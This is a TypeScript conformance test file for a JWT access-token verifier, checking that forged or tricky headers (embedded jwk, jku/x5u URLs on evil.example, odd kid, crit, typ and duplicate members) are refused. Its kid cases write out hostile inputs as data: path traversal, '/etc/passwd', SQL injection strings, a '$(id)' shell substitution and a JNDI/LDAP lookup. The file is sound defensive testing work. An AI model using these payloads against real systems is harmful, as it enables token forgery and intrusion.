import { createHash } from 'node:crypto';
import { type ConformanceCase, refuse } from './conformance-case.ts';
import { compact } from './signer.ts';
import type { World } from './world.ts';

/** Header tricks: keys that the token brings along, names of keys, extensions, types. */
export function headerCases(world: World): readonly ConformanceCase[] {
  return [
    ...ownKeys(world),
    ...keyNames(world),
    ...extensions(world),
    ...types(world),
    ...twice(world),
  ];
}

/** A token cannot bring the key that it is to be believed by (RFC 8725 section 3.10). */
function ownKeys(world: World): readonly ConformanceCase[] {
  const { strangers, token } = world;
  const attacker = strangers.EdDSA;
  const thumbprint = createHash('sha256').update('certificate').digest('base64url');
  const row = (name: string, rfc: string, header: object) =>
    refuse('bad_signature', name, rfc, token({}, header, attacker));
  const url = 'https://evil.example/keys.json';
  return [
    row('jwk, and signed by it', 'RFC 7515 §4.1.3', { jwk: attacker.jwk }),
    row('jwk with the kid of a published key', 'RFC 7515 §4.1.3', {
      jwk: { ...attacker.jwk, kid: 'EdDSA' },
    }),
    row('jwk without kid', 'RFC 7515 §4.1.3', { jwk: attacker.jwk, kid: undefined }),
    row('jku, and signed by its owner', 'RFC 7515 §4.1.2', { jku: url }),
    row("jku below the issuer's URL", 'RFC 7515 §4.1.2', { jku: `${world.issuer}/../keys.json` }),
    row('x5u, and signed by its owner', 'RFC 7515 §4.1.5', { x5u: url }),
    row('x5c, and signed by its owner', 'RFC 7515 §4.1.6', { x5c: ['MIIB'] }),
    row('x5t', 'RFC 7515 §4.1.7', { x5t: thumbprint }),
    row('x5t#S256', 'RFC 7515 §4.1.8', { 'x5t#S256': thumbprint }),
    row('keys, as a set has them', 'RFC 7517 §5', { keys: [attacker.jwk] }),
    row('iss with the issuer, as if the header spoke for it', 'RFC 7519 §5.3', {
      iss: world.issuer,
    }),
    refuse(
      'unknown_key',
      'jwk under a kid that nobody published',
      'RFC 7515 §4.1.3',
      token({}, { jwk: { ...attacker.jwk, kid: 'mine' }, kid: 'mine' }, attacker),
    ),
    refuse(
      'unknown_key',
      'jku under a kid that nobody published',
      'RFC 7515 §4.1.2',
      token({}, { jku: url, kid: 'mine' }, attacker),
    ),
  ];
}

/** A `kid` is compared and never looked up anywhere (RFC 8725 section 3.10). */
function keyNames(world: World): readonly ConformanceCase[] {
  const names: Readonly<Record<string, string>> = {
    'of nobody': 'nobody',
    'of another case': 'eddsa',
    'with a space after it': 'EdDSA ',
    'with a NUL after it': 'EdDSA\0',
    empty: '',
    'of a path upwards': '../../../../../../dev/null',
    'of a file': 'file:///etc/passwd',
    'of SQL': "' OR '1'='1",
    'of SQL that gives a key': "x' UNION SELECT 'secret'; --",
    'of a shell command': '$(id)',
    'of a template': `\${jndi:ldap://evil.example/a}`,
    'of a URL': 'https://evil.example/key.json',
    'of line breaks': 'EdDSA\r\n{"event":"allowed"}',
    'of 4 KiB': 'k'.repeat(4096),
    'of __proto__': '__proto__',
    'of constructor': 'constructor',
    'of toString': 'toString',
    'of a number': '0',
    'of another algorithm and key': 'RS256 RS256',
    'in look-alike letters': '\u0415dDSA',
    'with a lone surrogate': '\ud800',
    'with a combining mark': 'EdDSA\u0301',
    "of the key's thumbprint": 'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
  };
  return [
    ...Object.entries(names).map(([name, kid]) =>
      refuse('unknown_key', `kid ${name}`, 'RFC 7515 §4.1.4', world.token({}, { kid })),
    ),
    ...[null, 0, 1, true, false, ['EdDSA'], [], {}, { kid: 'EdDSA' }].map((kid) =>
      refuse(
        'malformed_token',
        `kid ${JSON.stringify(kid)}, not a string`,
        'RFC 7515 §4.1.4',
        world.token({}, { kid }),
      ),
    ),
  ];
}

/** We understand no extension, so any that must be understood refuses the token. */
function extensions(world: World): readonly ConformanceCase[] {
  const crits: readonly (readonly [unknown, object])[] = [
    [['x'], { x: 1 }],
    [['x'], {}],
    [['exp'], { exp: 1 }],
    [['b64'], { b64: true }],
    [['b64'], { b64: false }],
    [['alg'], {}],
    [['kid', 'typ'], { typ: 'JWT' }],
    [['http://openid.net/specs/jwt'], { 'http://openid.net/specs/jwt': true }],
    [['x', 'x'], { x: 1 }],
    [[], {}],
    [[''], { '': 1 }],
    [[1], {}],
    [[null], {}],
    ['x', { x: 1 }],
    ['', {}],
    [{ x: true }, { x: 1 }],
    [null, {}],
    [true, {}],
    [false, {}],
    [0, {}],
  ];
  const { token, claims, signers } = world;
  const unencoded = compact(
    {
      sign: (input) => signers.EdDSA.sign(`${input.split('.')[0]}.${JSON.stringify(claims)}`),
    },
    { alg: 'EdDSA', kid: 'EdDSA', b64: false, crit: ['b64'] },
    claims,
  );
  return [
    ...crits.map(([crit, members]) =>
      refuse(
        'unsupported_critical_header',
        `crit ${JSON.stringify(crit)} with ${JSON.stringify(members)}`,
        'RFC 7515 §4.1.11',
        token({}, { crit, ...members }),
      ),
    ),
    refuse(
      'unsupported_critical_header',
      'a payload signed without base64url',
      'RFC 7797 §6',
      unencoded,
    ),
    refuse(
      'unsupported_critical_header',
      'crit before anything else in the header',
      'RFC 7515 §4.1.11',
      world.under('{"crit":["x"],"x":1,"alg":"EdDSA","kid":"EdDSA"}'),
    ),
    refuse(
      'unsupported_critical_header',
      'crit in escapes',
      'RFC 7515 §4.1.11',
      world.under('{"alg":"EdDSA","kid":"EdDSA","\\u0063rit":["x"],"x":1}'),
    ),
  ];
}

/** A token made for something else is no access token (RFC 8725 section 3.11). */
function types(world: World): readonly ConformanceCase[] {
  const typs: readonly unknown[] = [
    'JWS',
    'JWE',
    'JOSE',
    'JOSE+JSON',
    'JWT ',
    ' JWT',
    'JW',
    'JWTS',
    '',
    'at+JWTx',
    'at jwt',
    'at+jwt+jwt',
    'id+jwt',
    'dpop+jwt',
    'secevent+jwt',
    'logout+jwt',
    'token-introspection+jwt',
    'application/json',
    'application/',
    'application/application/jwt',
    'text/jwt',
    'application/jwt; charset=utf-8',
    'JWT\n',
    'jwt,at+jwt',
    '\u212aWT',
    null,
    1,
    true,
    ['JWT'],
    {},
    [],
  ];
  return typs.map((typ) =>
    refuse(
      'unsupported_type',
      `typ ${JSON.stringify(typ)}`,
      typeof typ === 'string' ? 'RFC 8725 §3.11' : 'RFC 7515 §4.1.9',
      world.token({}, { typ }),
    ),
  );
}

/** One header must not mean two things (RFC 7515 section 4). */
function twice(world: World): readonly ConformanceCase[] {
  const headers: Readonly<Record<string, string>> = {
    'alg twice, the same': '{"alg":"EdDSA","kid":"EdDSA","alg":"EdDSA"}',
    'alg twice, none first': '{"alg":"none","kid":"EdDSA","alg":"EdDSA"}',
    'alg twice, none last': '{"alg":"EdDSA","kid":"EdDSA","alg":"none"}',
    'alg twice, once in escapes': '{"alg":"HS256","kid":"EdDSA","\\u0061lg":"EdDSA"}',
    'alg twice, once in escapes of capital digits':
      '{"al\\u0067":"EdDSA","kid":"EdDSA","alg":"EdDSA"}',
    'alg twice, both in escapes': '{"\\u0061lg":"EdDSA","kid":"EdDSA","a\\u006Cg":"EdDSA"}',
    'alg twice, white space between': '{"alg" : "EdDSA" ,\n"kid":"EdDSA",\t"alg"\r\n:"EdDSA"}',
    'kid twice': '{"alg":"EdDSA","kid":"nobody","kid":"EdDSA"}',
    'typ twice': '{"alg":"EdDSA","kid":"EdDSA","typ":"JWE","typ":"JWT"}',
    'crit twice': '{"alg":"EdDSA","kid":"EdDSA","crit":["x"],"crit":[]}',
    'an unknown member twice': '{"alg":"EdDSA","kid":"EdDSA","x":1,"x":1}',
    'an unknown member twice, with an object between':
      '{"alg":"EdDSA","kid":"EdDSA","x":{"y":[{"z":"}"}]},"x":1}',
    'an empty name twice': '{"alg":"EdDSA","kid":"EdDSA","":1,"":2}',
    'a name of quotes twice': '{"alg":"EdDSA","kid":"EdDSA","\\"":1,"\\u0022":2}',
    'a name of a backslash twice': '{"alg":"EdDSA","kid":"EdDSA","\\\\":1,"\\u005c":2}',
    'a name of a slash twice': '{"alg":"EdDSA","kid":"EdDSA","/":1,"\\/":2}',
    '__proto__ twice': '{"alg":"EdDSA","kid":"EdDSA","__proto__":1,"__proto__":2}',
    'a name outside ASCII twice': '{"alg":"EdDSA","kid":"EdDSA","\u00e9":1,"\\u00e9":2}',
    'a name outside the BMP twice':
      '{"alg":"EdDSA","kid":"EdDSA","\u{1f511}":1,"\\ud83d\\udd11":2}',
  };
  return Object.entries(headers).map(([name, header]) =>
    refuse('malformed_token', name, 'RFC 7515 §4', world.under(header)),
  );
}
